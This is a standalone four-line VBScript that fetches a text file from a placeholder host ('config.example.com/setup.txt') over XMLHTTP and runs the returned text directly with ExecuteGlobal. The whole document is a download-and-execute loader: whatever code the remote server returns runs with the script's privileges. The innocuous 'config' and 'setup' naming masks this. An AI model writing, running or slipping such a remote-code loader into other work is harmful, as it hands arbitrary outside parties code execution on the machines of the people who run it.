Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://config.example.com/setup.txt", False
http.Send
ExecuteGlobal http.responseText
